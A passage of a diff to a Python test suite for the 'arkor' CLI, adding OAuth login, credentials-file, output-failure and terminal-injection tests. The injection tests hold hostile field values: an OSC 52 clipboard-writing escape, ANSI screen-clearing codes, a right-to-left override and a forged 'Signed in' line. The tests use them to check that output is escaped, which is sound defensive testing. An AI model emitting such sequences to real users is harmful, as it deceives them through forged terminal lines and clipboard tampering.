@@ -36,7 +36,7 @@ from urllib.parse import parse_qs, urlencode, urlsplit
 import arkor_cli
 from fake_cloud import FIXTURES, TEST_CA, Answer, FakeAuth0, FakeCloudApi, browse
 
-HERE = os.path.dirname(os.path.abspath(__file__))
+HERE = os.path.dirname(os.path.abspath(arkor_cli.__file__))
 MODULE = os.path.join(HERE, "arkor_cli.py")
 POSIX = os.name == "posix"
 
@@ -268,7 +268,7 @@ class Case(unittest.TestCase):
         self.write_creds(data)
         return data
 
-    def auth0_creds(self, mode: str = "auth0", token: str = "access-token-stored") -> dict[str, Any]:
+    def auth0_creds(self, mode: str = "oauth", token: str = "access-token-stored") -> dict[str, Any]:
         return {
             "mode": mode,
             "accessToken": token,
@@ -293,186 +293,3327 @@ class Case(unittest.TestCase):
 # ---------------------------------------------------------------------------
 
 
-class CommandLineTest(Case):
-    def test_version(self) -> None:
-        code, out, _ = self.run_main("--version")
-        self.assertEqual((code, out), (0, f"arkor {arkor_cli.__version__}\n"))
+def fake_browser(linger: float = 0) -> str:
+    """A BROWSER command that fetches the page and follows it to the callback."""
+    here = os.path.join(HERE, "fake_cloud.py")
+    return f'"{sys.executable}" "{here}" browse %s' + (f" {linger:g}" if linger else "")
 
-    def test_help_on_every_command(self) -> None:
-        for command in (None, "login", "logout", "whoami"):
-            name = [command] if command else []
-            # Help alone is answered before argparse; after other options, or
-            # with them after it, by argparse's -h. Both print the same text.
-            for argv in (
-                [*name, "-h"],
-                [*name, "--help"],
-                ["-h", *name],
-                [*name, "--bogus", "-h"] if command else ["--help", "--bogus"],
-            ):
-                with self.subTest(argv=argv):
-                    code, out, err = self.run_main(*argv)
-                    self.assertEqual((code, err), (0, ""))
-                    self.assertEqual(out, arkor_cli._HELP[command if argv[0] != "-h" else None])
-        self.assertEqual(self.cloud.requests, [])
-        self.assertFalse(os.path.exists(self.arkor_dir))
 
-    def test_usage_errors_exit_2(self) -> None:
-        # An error names the command it belongs to and shows that command's
-        # usage, as `git` and `gh` do, then one line saying what is wrong.
-        cases = {
-            ("--bogus",): (None, "arkor: error: unrecognized arguments: --bogus"),
-            ("-x", "whoami"): (None, "arkor: error: unrecognized arguments: -x"),  # before the command: not its error
-            ("whoami", "whoami"): ("whoami", "arkor whoami: error: unrecognized arguments: whoami"),
-            ("frobnicate",): (None, "arkor: error: argument <command>: invalid choice: 'frobnicate'"),
-            ("login", "--bogus"): ("login", "arkor login: error: unrecognized arguments: --bogus"),
-            ("login", "--timeout", "0"): ("login", "arkor login: error: argument --timeout: not a positive"),
-            ("logout", "--yes", "now"): ("logout", "arkor logout: error: unrecognized arguments: now"),
-            ("whoami", "--jsn"): ("whoami", "arkor whoami: error: unrecognized arguments: --jsn"),
+class OAuthCase(Case):
+    def setUp(self) -> None:
+        super().setUp()
+        self.auth0 = FakeAuth0(self.cloud).start()
+        self.addCleanup(self.auth0.stop)
+        self.ports = [free_port(), free_port()]
+        self.cloud.config = self.auth0.cli_config(self.ports)
+        self.browser_log = os.path.join(self.home, "browser.log")
+
+    def tearDown(self) -> None:
+        self.secrets.extend(self.auth0.handed_out())
+        # Reap the fake browsers that in-process logins started.
+        while arkor_cli._BROWSER_PROCESSES:
+            child = arkor_cli._BROWSER_PROCESSES.pop()
+            try:
+                child.wait(timeout=15)
+            except subprocess.TimeoutExpired:
+                child.kill()
+                child.wait()
+        super().tearDown()
+
+    def env(self, **extra: str | None) -> dict[str, str]:
+        base: dict[str, str | None] = {"SSL_CERT_FILE": TEST_CA, "FAKE_BROWSER_LOG": self.browser_log}
+        base.update(extra)
+        return super().env(**base)
+
+    def browser_saw(self, timeout: float = 15) -> tuple[int, str]:
+        """What the fake browser ended on: the callback's status and page."""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            if os.path.exists(self.browser_log):
+                with open(self.browser_log, encoding="utf-8") as f:
+                    status, _, page = f.read().partition("\n")
+                if status:
+                    return int(status), page
+            time.sleep(0.05)
+        self.fail("the browser never reported")
+
+    def sign_in_oauth(self, expires_in: int = 3600, mode: str = "oauth") -> dict[str, Any]:
+        """Credentials as a sign-in with the fake Auth0 leaves them, whose
+        access token expires in ``expires_in`` seconds."""
+        tokens = self.auth0._issue(refresh=True)  # registered with the fake cloud-api too
+        data = {
+            "mode": mode,
+            "accessToken": tokens["access_token"],
+            "refreshToken": tokens["refresh_token"],
+            "expiresAt": int(time.time()) + expires_in,
+            "auth0Domain": self.auth0.domain,
+            "audience": self.auth0.audience,
+            "clientId": self.auth0.client_id,
+            "arkorCloudApiUrl": self.cloud.url,
         }
-        for argv, (command, error) in cases.items():
-            with self.subTest(argv=argv):
-                code, out, err = self.run_main(*argv)
-                self.assertEqual((code, out), (2, ""))
-                usage, message = err.rsplit("\n", 2)[:2] if err.endswith("\n") else (err, "")
-                self.assertEqual(usage, "usage: " + arkor_cli._USAGE[command])
-                self.assertTrue(message.startswith(error), err)
-        self.assertEqual(self.cloud.requests, [])
+        self.write_creds(data)
+        return data
 
-    def test_help_lists_what_the_parser_takes(self) -> None:
-        # The help is written by hand, so it is held to the parser: each
-        # option a command takes is on its options list (with its metavar),
-        # each one listed or in the usage is taken, and the commands listed
-        # are the commands there are.
-        parser, commands = arkor_cli._parser()
-        self.assertEqual(list(commands), list(arkor_cli._SUMMARY))
-        for command, each in ((None, parser), *commands.items()):
-            with self.subTest(command=command):
-                text = arkor_cli._HELP[command]
-                self.assertTrue(text.startswith("usage: " + arkor_cli._USAGE[command] + "\n\n"))
-                taken = {
-                    option: action.metavar
-                    for action in each._actions  # the parser's own list of what it takes
-                    for option in action.option_strings
-                }
-                listed = {}
-                for line in text.split("\noptions:\n", 1)[1].split("\n\n", 1)[0].splitlines():
-                    names = re.split(r"\s{2,}", line.strip())[0]
-                    for name in names.split(", "):
-                        option, _, metavar = name.partition(" ")
-                        listed[option] = metavar or None
-                self.assertEqual(listed, taken)
-                usage_options = set(re.findall(r"(?<![\w-])-{1,2}[a-z][\w-]*", arkor_cli._USAGE[command]))
-                self.assertLessEqual(usage_options, set(taken))
-                self.assertIn(len(usage_options), range(1, len(taken) + 1))
-                for line in text.splitlines():
-                    self.assertLessEqual(len(line), 79, line)
-        listed_commands = arkor_cli._HELP[None].split("\ncommands:\n", 1)[1].split("\n\n", 1)[0]
-        self.assertEqual([line.split()[0] for line in listed_commands.splitlines()], list(commands))
+    def forget_browser(self) -> None:
+        if os.path.exists(self.browser_log):
+            os.remove(self.browser_log)
 
-    @unittest.skipUnless(POSIX, "closes a descriptor with the shell")
-    def test_a_closed_stdout_or_stderr_is_no_error(self) -> None:
-        # `arkor whoami >&-` (cron, daemons): Python starts with no stdout, or
-        # one that fails every write; the command still ends with its status.
-        cases = [
-            (["whoami"], ">&-", 0),
-            (["--help"], ">&-", 0),
-            (["login", "--oauth", "-h"], ">&-", 0),  # argparse's -h
-            (["--version"], ">&-", 0),
-            ([], "2>&-", 2),
-            (["--bogus"], "2>&-", 2),
-        ]
-        for argv, closing, status in cases:
-            with self.subTest(argv=argv, closing=closing):
-                shell = ["/bin/sh", "-c", f'exec "$@" {closing}', "sh", sys.executable, MODULE, *argv]
-                proc = subprocess.run(shell, capture_output=True, text=True, env=self.env(), timeout=30, check=False)
-                self.assertEqual(proc.returncode, status, proc.stdout + proc.stderr)
-                self.assertNotIn("Traceback", proc.stdout + proc.stderr)
-                self.assertNotIn("Error", proc.stdout + proc.stderr)
+    def start_login(self, *extra: str, **env: str | None) -> tuple[subprocess.Popen[str], str, dict[str, str]]:
+        """``login --oauth --no-browser`` as a real process, read up to its
+        ``Browser:`` line: the URL must arrive through a pipe while it waits."""
+        proc = self.spawn("login", "--oauth", "--no-browser", *extra, **env)
+        self.addCleanup(lambda: proc.poll() is None and proc.kill())
+        assert proc.stdout is not None
+        ready, _, _ = select.select([proc.stdout], [], [], 20)
+        self.assertTrue(ready, "no Browser: line while the login waits")
+        # A byte at a time, so that nothing after the line is read ahead into
+        # a buffer that finish()'s communicate() would not see.
+        raw = b""
+        while not raw.endswith(b"\n"):
+            byte = os.read(proc.stdout.fileno(), 1)
+            if not byte:
+                break
+            raw += byte
+        line = raw.decode()
+        self.assertTrue(line.startswith("Browser: https://"), line)
+        url = line[len("Browser: ") :].strip()
+        return proc, url, {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}
 
-    def test_no_command_shows_the_help_on_stderr(self) -> None:
-        code, out, err = self.run_main()
-        self.assertEqual((code, out, err), (2, "", arkor_cli._HELP[None]))
+    def finish(self, proc: subprocess.Popen[str]) -> tuple[int, str, str]:
+        out, err = proc.communicate(timeout=30)
+        self._record(out, err)
+        self.assertNotIn("Traceback", err)
+        return proc.returncode, out, err
 
-    def test_main_returns_instead_of_exiting(self) -> None:
-        # A caller embedding main() gets a status back, never a SystemExit.
-        for argv in (["--version"], ["--bogus"], ["whoami"]):
-            with self.subTest(argv=argv):
-                code, _, _ = self.run_main(*argv)
-                self.assertIsInstance(code, int)
+    def callback(self, port: int, target: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
+        """A request to the loopback listener, as a browser would send it."""
+        import http.client
 
-    def test_three_ways_to_run(self) -> None:
-        env = self.env()
-        for cmd in (
-            [sys.executable, MODULE, "--version"],
-            [sys.executable, "-m", "arkor_cli", "--version"],
-        ):
-            with self.subTest(cmd=cmd):
-                proc = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=HERE, timeout=30, check=False)
-                self.assertEqual((proc.returncode, proc.stdout), (0, f"arkor {arkor_cli.__version__}\n"))
+        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+        try:
+            conn.request("GET", target, headers={"Host": host} if host else {})
+            response = conn.getresponse()
+            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
+        finally:
+            conn.close()
 
-    def test_copied_file_runs_isolated(self) -> None:
-        # The one file, alone in an empty folder, under -I (no site, no env).
-        folder = tempfile.mkdtemp()
-        self.addCleanup(shutil.rmtree, folder, True)
-        shutil.copy(MODULE, folder)
-        proc = subprocess.run(
-            [sys.executable, "-I", os.path.join(folder, "arkor_cli.py"), "whoami"],
-            capture_output=True,
-            text=True,
-            env=self.env(),
-            cwd=folder,
-            timeout=30,
-            check=False,
+    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
+        """A login whose browser comes back with access_denied and this
+        description: the listener's answer, then the exit status and stderr."""
+        proc, _, _ = self.start_login()
+        query = urlencode({"error": "access_denied", "error_description": description})
+        answer = self.callback(self.ports[0], "/callback?" + query)
+        code, _, err = self.finish(proc)
+        return answer, code, err
+
+    def assert_port_closed(self, port: int) -> None:
+        with socket.socket() as s:
+            s.settimeout(5)
+            with self.assertRaises(ConnectionRefusedError, msg=f"something still listens on {port}"):
+                s.connect(("127.0.0.1", port))
+
+
+def can_mount_tmpfs() -> bool:
+    """Root on Linux with mount(8) allowed (CI here): tiny and read-only filesystems."""
+    if not sys.platform.startswith("linux") or os.geteuid() != 0 or not shutil.which("mount"):
+        return False
+    probe = tempfile.mkdtemp()
+    try:
+        ok = subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", probe], capture_output=True, check=False
         )
-        self.assertEqual((proc.returncode, proc.stdout, proc.stderr), (0, NOT_SIGNED_IN, ""))
+        if ok.returncode != 0:
+            return False
+        subprocess.run(["umount", probe], check=False)
+        return True
+    finally:
+        os.rmdir(probe)
 
-    @unittest.skipUnless(hasattr(sys, "stdlib_module_names"), "Python 3.10+ lists the standard library")
-    def test_standard_library_only(self) -> None:
-        # Anywhere in the file, type-checking blocks included.
+
+# ---------------------------------------------------------------------------
+# Terminal output: one line per line, whatever the text holds
+# ---------------------------------------------------------------------------
+
+
+class PrintableTest(unittest.TestCase):
+    """The choke point of TerminalInjectionTest: _printable, and the
+    _Terminal every line goes through."""
+
+    def test_printable_escapes_line_breaks_controls_and_format_characters(self) -> None:
+        cases = {
+            "a\nb": "a\\u000ab",
+            "a\rb": "a\\u000db",
+            "\x1b[2J": "\\u001b[2J",
+            "org\u202elive": "org\\u202elive",  # right-to-left override
+            "a\u2028b": "a\\u2028b",  # line separator
+            "a\x85b": "a\\u0085b",  # next line (C1)
+            "a\x9b2J": "a\\u009b2J",  # a one-byte CSI
+            "a\ud800b": "a\\ud800b",  # a lone surrogate (a file read with surrogateescape)
+            "a\U000e0001b": "a\\udb40\\udc01b",  # an astral format character: a surrogate pair, as JSON writes it
+            "tab\there": "tab\\u0009here",
+            "caf\u00e9 \U0001f600 \\n": "caf\u00e9 \U0001f600 \\n",  # printable: as it is
+        }
+        for text, shown in cases.items():
+            with self.subTest(text=text):
+                self.assertEqual(arkor_cli._printable(text), shown)
+
+    def test_every_terminal_method_prints_one_line_per_argument(self) -> None:
+        hostile = f"a{INJECTED}\r\x1b[2K\u2028b\x85c\x1b]52;c;ZXZpbA==\x07"
+        shown = "a\\u000aFORGED: Signed in\\u000d\\u001b[2K\\u2028b\\u0085c\\u001b]52;c;ZXZpbA==\\u0007"
+        stdin, out, err = io.StringIO("yes\nno\n"), io.StringIO(), io.StringIO()
+        term = arkor_cli._Terminal(stdin, out, err, {})
+        term.info(hostile, hostile)
+        term.success(hostile)
+        term.note(hostile)
+        term.warn(hostile)
+        term.error(hostile, hostile)
+        answer = term.ask(hostile)  # stdout is no terminal: the question goes to stderr, with no line break
+        self.assertEqual(answer, "yes")
+        self.assertEqual(out.getvalue(), f"{shown}\n" * 3)
+        self.assertEqual(err.getvalue(), f"{shown}\n" * 4 + shown)
+
+    def test_nothing_writes_around_the_terminal(self) -> None:
+        # No print(), and no .write() but _Terminal._write's, the credentials
+        # file's and the callback page's (to the browser): a raw write to a
+        # stream would skip _printable.
         import ast
 
         with open(MODULE, encoding="utf-8") as f:
             tree = ast.parse(f.read())
-        found = set()
+        writes = []
         for node in ast.walk(tree):
-            if isinstance(node, ast.Import):
-                found.update(alias.name.split(".")[0] for alias in node.names)
-            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
-                found.add(node.module.split(".")[0])
-        stdlib = set(getattr(sys, "stdlib_module_names", ()))  # 3.10+, as the decorator says
-        self.assertEqual(found - stdlib - {"__future__"}, set())
+            if isinstance(node, ast.Call):
+                func = node.func
+                self.assertFalse(isinstance(func, ast.Name) and func.id == "print", f"print() on line {node.lineno}")
+                if isinstance(func, ast.Attribute) and func.attr in ("write", "writelines"):
+                    writes.append(ast.unparse(func.value))
+        self.assertEqual(sorted(writes), ["f", "self.wfile", "stream"])
 
-    def test_internal_error_is_one_line(self) -> None:
-        # A bug must still end in one line and status 1, not a traceback.
-        with mock.patch.object(arkor_cli, "_read_credentials", side_effect=RuntimeError("secret-ish")):
-            code, _out, err = self.run_main("whoami")
-        self.assertEqual(code, 1)
-        self.assertEqual(err, "Internal error (RuntimeError). Set ARKOR_DEBUG=1 to see the traceback, and report it.\n")
-        self.assertNotIn("secret-ish", err)
 
-    def test_debug_adds_traceback(self) -> None:
-        self.write_creds(b"{not json")
-        code, _, err = self.run_main("whoami", ARKOR_DEBUG="1")
-        self.assertEqual(code, 1)
-        self.assertIn("Traceback", err)
-        code, _, err = self.run_main("whoami")
-        self.assertNotIn("Traceback", err)
+# What a hostile server or file puts in a field: a line that would pass for
+# arkor's own, were the line break printed raw.
+INJECTED = "\nFORGED: Signed in"
 
-    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
-    def test_ctrl_c_exits_130_quietly(self) -> None:
-        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, {}, delay=30))
-        proc = self.spawn("login", "--anonymous")
-        self.wait_until(lambda: self.cloud.seen("POST", "/v1/auth/anonymous"), 10)
-        proc.send_signal(signal.SIGINT)
-        _out, err = proc.communicate(timeout=10)
-        self.assertEqual(proc.returncode, 130)
-        self.assertEqual(err, "Interrupted.\n")
+
+class TerminalInjectionTest(OAuthCase):
+    """Text from servers and callbacks reaches the terminal with its control
+    and format characters escaped: it cannot start a line of its own,
+    rewrite the screen, the title or the clipboard, nor reverse a name."""
+
+    OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # "write 'evil' to the clipboard"
+
+    def assert_no_forged_line(self, text: str, *prefixes: str) -> None:
+        """Every line of ``text`` (split at every line break Python knows)
+        starts with one of ``prefixes``; FORGED is there, right after an
+        escape, never at the start of a line."""
+        self.assertIn("FORGED", text)
+        for line in text.splitlines():
+            self.assertTrue(line.startswith(prefixes), f"a line of its own: {line!r}")
+        for match in re.finditer("FORGED", text):
+            self.assertRegex(text[: match.start()], r"\\u[0-9a-f]{4} ?\Z")
+
+    def test_anonymous_identity_fields(self) -> None:
+        minted = self.cloud.mint_anonymous()
+        minted["anonymousId"] = f"id{self.OSC52}"
+        minted["personalOrg"]["slug"] = "org\u202elive"  # right-to-left override
+        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, minted))
+        code, out, _ = self.run_main("login", "--anonymous")
+        self.assertEqual(code, 0)
+        self.assertIn("Anonymous id: id\\u001b]52;c;ZXZpbA==\\u0007\n", out)
+        self.assertIn("(personal org: org\\u202elive).", out)
+        self.assertNotIn("\x1b", out)
+        self.assertEqual(self.read_creds()["anonymousId"], f"id{self.OSC52}")  # stored as given
+
+    def test_whoami_output(self) -> None:
+        self.sign_in_anon()
+        user = {
+            "name": "Ada\x9b2J",
+            "bio": f"hi{self.OSC52}",
+            "title": "x\u2028FORGED: Signed in",
+            "motto": "y\x85FORGED",
+        }
+        body = {"user": user, "orgs": [{"slug": "\x1b[31mred"}, {"slug": f"o{INJECTED}"}]}
+        self.cloud.script("GET", "/v1/me", Answer(200, body))
+        code, out, _ = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assertNotIn("\x1b", out)
+        self.assertNotIn("\x9b", out)
+        self.assertIn('\n  "name": "Ada\\u009b2J",\n', out)
+        # JSON leaves U+2028 and U+0085 as they are: still no line of their own.
+        self.assertIn('\n  "title": "x\\u2028FORGED: Signed in",\n  "motto": "y\\u0085FORGED"\n}\n', out)
+        self.assertTrue(out.endswith("Orgs: \\u001b[31mred, o\\u000aFORGED: Signed in\n"), out)
+        self.assert_no_forged_line(out, "{", '  "', "}", "Orgs: ")
+        code, out, _ = self.run_main("whoami", "--json")
+        self.assertEqual(json.loads(out), body)  # escaped, and still the same JSON
+
+    def test_error_bodies_and_callback_text(self) -> None:
+        # A quoted body is its first line alone: the rest is never shown.
+        self.cloud.script("POST", "/v1/auth/anonymous", Answer(500, body=b"\x1b[2Jgone\r FORGED: Signed in"))
+        code, _, err = self.run_main("login", "--anonymous")
+        self.assertEqual((code, err), (1, f"POST {self.cloud.url}/v1/auth/anonymous failed (500): \\u001b[2Jgone\n"))
+        _, code, err = self.login_denied(f"\x1b[2J\x1b]0;owned\x07{INJECTED}")
+        denied = "Authentication failed: access_denied. \\u001b[2J\\u001b]0;owned\\u0007\\u000aFORGED: Signed in"
+        self.assertEqual((code, err), (1, f"Login failed\n{denied}\n"))
+
+    def test_unsupported_version_body(self) -> None:
+        body = {
+            "error": "sdk_version_unsupported",
+            "currentVersion": f"0.2.0{INJECTED}",
+            "supportedRange": f">=9\r{INJECTED}",
+        }
+        self.cloud.script("POST", "/v1/auth/anonymous", Answer(426, body))
+        code, out, err = self.run_main("login", "--anonymous")
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(
+            err,
+            "Arkor SDK 0.2.0\\u000aFORGED: Signed in is no longer supported by the cloud API"
+            f" (supported: >=9\\u000d\\u000aFORGED: Signed in). {COPIED_FIX}\n",
+        )
+        self.assert_no_forged_line(err, "Arkor SDK ")
+
+    def test_refused_refresh_error(self) -> None:
+        self.sign_in_oauth(expires_in=0)  # due for renewal
+        self.auth0.script("POST", "/oauth/token", Answer(403, {"error": f"invalid_grant{INJECTED}"}))
+        code, out, err = self.run_main("whoami")
+        self.assertEqual(code, 0)  # the stored token still works
+        self.assertEqual(
+            err,
+            "The session could not be renewed (Auth0: invalid_grant\\u000aFORGED: Signed in)."
+            " Sign in again with `arkor login --oauth`.\n",
+        )
+        self.assert_no_forged_line(err, "The session could not be renewed (Auth0: invalid_grant")
+        self.assertTrue(out.endswith("\nOrgs: ada-personal, analytical\n"), out)
+
+    def test_stored_anonymous_id_in_the_logout_warning(self) -> None:
+        self.write_creds(
+            {"mode": "anon", "token": "anon-token-stored", "anonymousId": f"anon{INJECTED}", "orgSlug": "o"}
+        )
+        code, out, err = self.run_main("logout", "-y")
+        self.assertEqual(
+            (code, out, err),
+            (
+                0,
+                f"Removed {self.creds}.\n",
+                "The anonymous identity anon\\u000aFORGED: Signed in cannot be restored once deleted.\n",
+            ),
+        )
+        self.assert_no_forged_line(err, "The anonymous identity anon")
         self.assertFalse(os.path.exists(self.creds))
-        self.assertEqual(self.leftovers(), [])
+
+    def test_folded_deprecation_headers(self) -> None:
+        # An obsolete folded header (RFC 9112 §5.2): its line break reaches
+        # the value that the end-of-command warning quotes.
+        self.sign_in_anon()
+        headers = {
+            "Deprecation": "true",
+            "Warning": '299 - "Going away\r\n FORGED: Signed in"',
+            "Sunset": "Fri, 01 Jan 2027 00:00:00 GMT\r\n FORGED: Signed in",
+        }
+        self.cloud.script("GET", "/v1/me", Answer(200, {"user": {"id": "u"}, "orgs": []}, headers=headers))
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, out), (0, '{\n  "id": "u"\n}\n'))
+        self.assertEqual(
+            err,
+            f"Going away\\u000d\\u000a FORGED: Signed in (current: {arkor_cli.__version__})."
+            " Cutoff: Fri, 01 Jan 2027 00:00:00 GMT\\u000d\\u000a FORGED: Signed in."
+            f" {COPIED_FIX}\n",
+        )
+        self.assert_no_forged_line(err, "Going away")
+
+
+class OutputFailureTest(Case):
+    """A stream that cannot be written (a full disk, a closed descriptor)
+    ends the command quietly: no traceback, no "Exception ignored" from the
+    interpreter's last flush, and status 1 because what was asked for was
+    the output; unless the command changed the stored credentials, whose
+    work then stands (0). Each case is its own process (the interpreter's
+    exit is part of it), built without PYTHONUNBUFFERED, and they all run at
+    once."""
+
+    def output_home(self, name: str) -> str:
+        home = os.path.join(self.home, name)
+        os.makedirs(home)
+        return home
+
+    def output_runs(self, cases: list[tuple[str, dict[str, Any]]]) -> dict[str, tuple[int, str, str]]:
+        """Start each case (a shell line ``"$@" ...`` run with arkor as
+        ``$@``, and Popen keywords), all at once; their status, stdout and
+        stderr by line."""
+        procs = {}
+        for line, options in cases:
+            args = options.pop("args")
+            options.setdefault("stdout", subprocess.PIPE)
+            options.setdefault("stderr", subprocess.PIPE)
+            env = self.env(**options.pop("env", {}))
+            shell = ["/bin/sh", "-c", f'exec "$@" {line}', "sh", sys.executable, MODULE, *args]
+            procs[f"{' '.join(args)} {line}"] = subprocess.Popen(
+                shell, stdin=subprocess.DEVNULL, env=env, text=True, **options
+            )
+        for proc in procs.values():
+            self.addCleanup(lambda p=proc: p.poll() is None and p.kill())
+        results = {}
+        for name, proc in procs.items():
+            out, err = proc.communicate(timeout=30)
+            self._record(out or "", err or "")
+            results[name] = (proc.returncode, out or "", err or "")
+        return results
+
+    @unittest.skipUnless(os.path.exists("/dev/full") and POSIX, "needs /dev/full and a POSIX shell")
+    def test_full_or_closed_streams(self) -> None:
+        self.sign_in_anon()
+        anon_home = self.output_home("fresh")  # login --anonymous writes here, apart from the others
+        broken_home = self.output_home("broken")
+        os.makedirs(os.path.join(broken_home, ".arkor"))
+        with open(os.path.join(broken_home, ".arkor", "credentials.json"), "w", encoding="utf-8") as f:
+            f.write("{not json")
+        full = {"stdout": subprocess.DEVNULL}  # the shell line redirects; stdout is not read
+        results = self.output_runs(
+            [
+                (">/dev/full", {"args": ["whoami"], **full}),
+                (">/dev/full", {"args": ["whoami", "--json"], **full}),
+                (">/dev/full", {"args": ["--version"], **full}),
+                (">/dev/full", {"args": ["--help"], **full}),
+                (">/dev/full", {"args": ["login", "--anonymous"], "env": {"HOME": anon_home}, **full}),
+                (">&-", {"args": ["whoami"], **full}),
+                ("2>/dev/full", {"args": ["whoami"], "env": {"HOME": broken_home}, "stderr": subprocess.DEVNULL}),
+            ]
+        )
+        expected = {
+            "whoami >/dev/full": 1,
+            "whoami --json >/dev/full": 1,
+            "--version >/dev/full": 1,
+            "--help >/dev/full": 1,
+            "login --anonymous >/dev/full": 0,  # signed in: that stands
+            "whoami >&-": 1,
+            "whoami 2>/dev/full": 1,  # the command's own failure, not hidden
+        }
+        self.assertEqual(sorted(results), sorted(expected))
+        for name, (code, out, err) in results.items():
+            with self.subTest(name):
+                self.assertEqual((code, out, err), (expected[name], "", ""))
+        stored = os.path.join(anon_home, ".arkor", "credentials.json")
+        with open(stored, encoding="utf-8") as f:
+            self.assertEqual(json.load(f)["mode"], "anon")
 
 
 # ---------------------------------------------------------------------------
-# login
+# The credentials file
+# ---------------------------------------------------------------------------
+
+
+def _files_call_guarded(
+    case: unittest.TestCase, call: Callable[[], Any], timeout: float = 10, fifo: str | None = None
+) -> Any:
+    """``call()`` in a thread that must end within ``timeout`` seconds: a call
+    that blocks (on a FIFO, on a server that never answers) fails the test
+    instead of hanging the suite. A ``fifo`` it may block on is then opened
+    for writing, which lets a blocked open go on. Returns what ``call``
+    returned, or raises what it raised."""
+    import threading
+
+    outcome: list[Any] = []
+
+    def run() -> None:
+        try:
+            outcome.append(("value", call()))
+        except BaseException as exc:  # noqa: BLE001 - re-raised in the test's thread
+            outcome.append(("raised", exc))
+
+    thread = threading.Thread(target=run, name="files-guarded", daemon=True)
+    thread.start()
+    thread.join(timeout)
+    if thread.is_alive():
+        if fifo is not None:
+            fd = os.open(fifo, os.O_RDWR | os.O_NONBLOCK)  # a writer: the blocked open returns, then reads EOF
+            os.close(fd)
+            thread.join(10)
+        case.fail(f"still running after {timeout:g} s")
+    kind, value = outcome[0]
+    if kind == "raised":
+        raise value
+    return value
+
+
+class CredentialsFileTest(Case):
+    def assert_whoami_names_the_file(self, reason: str) -> None:
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(err, reason + "\n")
+        self.assertEqual(self.cloud.requests, [])
+
+    def test_bad_contents_are_named_and_kept(self) -> None:
+        valid = {
+            "mode": "anon",
+            "token": "t-secret",
+            "anonymousId": "a",
+            "arkorCloudApiUrl": "http://x",
+            "orgSlug": "o",
+        }
+        self.secrets.append("t-secret")
+        cases = [
+            (b"{not json", "not JSON: Expecting property name enclosed in double quotes (line 1, column 2)"),
+            (b"", "not JSON: Expecting value (line 1, column 1)"),
+            (b"\xff\xfe garbage", "not UTF-8 text"),
+            (b"[]", "not a JSON object"),
+            (json.dumps({"token": "x"}).encode(), "no mode"),
+            (json.dumps(dict(valid, mode="magic")).encode(), "unknown mode 'magic'"),
+            (json.dumps(dict(valid, mode=None)).encode(), "unknown mode None"),
+            (json.dumps({k: v for k, v in valid.items() if k != "token"}).encode(), "missing token"),
+            (json.dumps(dict(valid, orgSlug=3)).encode(), "orgSlug is not valid"),
+            (json.dumps(dict(self.auth0_creds(), expiresAt="soon")).encode(), "expiresAt is not valid"),
+            (json.dumps(dict(self.auth0_creds(), expiresAt=True)).encode(), "expiresAt is not valid"),
+            (
+                b'{"mode": "anon", "token": "t", "anonymousId": "a", "orgSlug": "o", "x": 1e999}',
+                "not JSON: the number 1e999 is out of range",
+            ),
+            (
+                json.dumps({k: v for k, v in self.auth0_creds().items() if k != "refreshToken"}).encode(),
+                "missing refreshToken",
+            ),
+        ]
+        for raw, what in cases:
+            with self.subTest(what=what):
+                before = self.write_creds(raw)
+                self.assert_whoami_names_the_file(
+                    f"{self.creds} does not hold valid arkor credentials ({what})."
+                    " Fix it, or sign in again with `arkor login`."
+                )
+                self.assertEqual(self.creds_bytes(), before)
+
+    def test_directory_in_place_of_the_file(self) -> None:
+        os.makedirs(self.creds)
+        message = f"{self.creds} is not a regular file; arkor does not read or remove it.\n"
+        for argv in (["whoami"], ["logout", "-y"], ["logout"]):
+            with self.subTest(argv=argv):
+                self.assertEqual(self.run_main(*argv), (1, "", message))
+                self.assertTrue(os.path.isdir(self.creds))
+        # login cannot store over a directory: it must not mint an identity
+        # it would lose, and leaves no temp file
+        self.assertEqual(self.run_main("login", "--anonymous"), (1, "", message))
+        self.assertEqual(self.cloud.requests, [])
+        self.assertTrue(os.path.isdir(self.creds))
+        self.assertEqual(self.leftovers(), [])
+
+    @unittest.skipUnless(POSIX and hasattr(os, "mkfifo"), "FIFOs")
+    def test_a_fifo_is_never_opened_for_a_blocking_read(self) -> None:
+        import functools
+
+        os.makedirs(self.arkor_dir)
+        os.mkfifo(self.creds)
+        message = f"{self.creds} is not a regular file; arkor does not read or remove it."
+        for argv in (["whoami"], ["whoami", "--json"], ["logout", "-y"], ["logout"]):
+            with self.subTest(argv=argv):
+                code, out, err = _files_call_guarded(self, functools.partial(self.run_main, *argv), fifo=self.creds)
+                self.assertEqual((code, out, err), (1, "", message + "\n"))
+                self.assertTrue(stat.S_ISFIFO(os.lstat(self.creds).st_mode))
+
+        def get_token() -> Any:
+            with mock.patch.dict(os.environ, self.env(), clear=True):
+                return arkor_cli.get_token()
+
+        with self.assertRaises(arkor_cli.ArkorError) as caught:
+            _files_call_guarded(self, get_token, fifo=self.creds)
+        self.assertEqual((caught.exception.message, caught.exception.status), (message, 1))
+        self.assertTrue(stat.S_ISFIFO(os.lstat(self.creds).st_mode))
+        self.assertEqual(self.cloud.requests, [])
+
+    @unittest.skipUnless(POSIX, "Unix sockets")
+    def test_a_socket_is_named_as_not_a_regular_file(self) -> None:
+        os.makedirs(self.arkor_dir)
+        with socket.socket(socket.AF_UNIX) as listener:
+            listener.bind(self.creds)
+            for argv in (["whoami"], ["logout", "-y"]):
+                with self.subTest(argv=argv):
+                    code, out, err = self.run_main(*argv)
+                    self.assertEqual(
+                        (code, out, err),
